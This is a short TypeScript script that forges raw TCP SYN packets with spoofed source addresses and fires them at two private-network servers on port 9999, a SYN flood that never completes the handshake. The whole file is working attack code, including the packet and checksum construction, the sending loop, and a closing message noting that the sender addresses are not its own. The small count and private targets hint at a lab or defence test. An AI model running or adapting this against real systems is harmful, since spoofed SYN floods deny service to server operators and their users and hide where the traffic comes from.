// Writes SYNs itself, each with another sender, and never answers a SYN-ACK.
import { setTimeout as sleep } from 'node:timers/promises'
import { AF_INET, IPPROTO_RAW, SOCK_RAW, socket } from 'wirebook/socket'

const syns = Number(process.argv.find((arg) => arg.startsWith('syns='))?.slice(5) ?? 40)
const TARGETS = ['10.0.0.2', '10.0.0.3']
const SYN = 0x02

/** The Internet checksum: the complement of the sum of 16-bit words, carries added (RFC 1071). */
function checksum(bytes: Buffer): number {
  let sum = 0
  for (let at = 0; at < bytes.length; at += 2) sum += bytes.readUInt16BE(at)
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16)
  return ~sum & 0xffff
}

/** An IPv4 header and a TCP header, 20 bytes each. The kernel fills in the IP length and checksum (raw(7)). */
function forgedSyn(from: number[], to: number[], number: number): Buffer {
  const ip = Buffer.from([0x45, 0, 0, 0, 0, 0, 0, 0, 64, 6, 0, 0, ...from, ...to])
  const tcp = Buffer.alloc(20)
  tcp.writeUInt16BE(20_000 + number, 0)
  tcp.writeUInt16BE(9999, 2)
  tcp.writeUInt32BE(number * 1000, 4)
  tcp.set([5 << 4, SYN, 0xff, 0xff], 12)
  const pseudo = Buffer.from([...from, ...to, 0, 6, 0, tcp.length]) // RFC 9293 §3.1
  tcp.writeUInt16BE(checksum(Buffer.concat([pseudo, tcp])), 16)
  return Buffer.concat([ip, tcp])
}

using raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)
for (let n = 1; n <= syns; n += 1) {
  for (const target of TARGETS) raw.sendto(forgedSyn([203, 0, 113, n], target.split('.').map(Number), n), [target, 0])
  await sleep(2)
}
console.log(`${syns} SYNs to each server, from ${syns} addresses that are not mine`)
